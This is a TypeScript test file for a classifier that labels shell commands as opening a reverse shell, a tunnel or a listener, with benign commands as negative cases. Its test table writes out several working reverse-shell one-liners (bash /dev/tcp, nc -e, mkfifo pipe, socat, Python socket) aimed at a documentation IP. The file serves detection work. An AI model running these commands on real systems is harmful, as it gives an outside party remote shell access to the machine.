import { expect, test } from 'vitest';
import { effectsOf } from './rows.ts';

const opened = (command: string): readonly string[] =>
  effectsOf(command)
    .filter((said) => said.startsWith('exfil.listen'))
    .map((said) => said.replace(/^exfil\.listen a (\w+) for .*$/, '$1'));

test.each([
  ['bash -i >& /dev/tcp/203.0.113.7/443 0>&1', 'shell'],
  ['nc -e /bin/sh 203.0.113.7 443', 'shell'],
  ['ncat --exec /bin/bash -lvp 4444', 'shell'],
  ['mkfifo f; cat f | sh -i 2>&1 | nc 203.0.113.7 443 > f', 'shell'],
  ['socat TCP:203.0.113.7:443 EXEC:/bin/sh', 'shell'],
  [`python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0)'`, 'shell'],
  ['ngrok http 3000', 'tunnel'],
  ['cloudflared tunnel --url http://localhost:3000', 'tunnel'],
  ['ssh -R 8080:localhost:3000 host.example.com', 'tunnel'],
  ['tailscale funnel 3000', 'tunnel'],
  ['nc -lvp 4444', 'listener'],
  ['python3 -m http.server', 'listener'],
])('%s: %s', (command, what) => {
  expect(opened(command)).toEqual([what]);
});

test.each([
  'nc -zv db 5432',
  '(echo > /dev/tcp/db/5432)',
  'timeout 1 bash -c "</dev/tcp/localhost/5432"',
  'ssh -L 5432:db:5432 bastion',
  'ssh -NfD 1080 bastion',
  'python3 -m http.server --bind 127.0.0.1',
  'cloudflared tunnel list',
  'npm start',
])('%s opens nothing', (command) => {
  expect(opened(command)).toEqual([]);
});
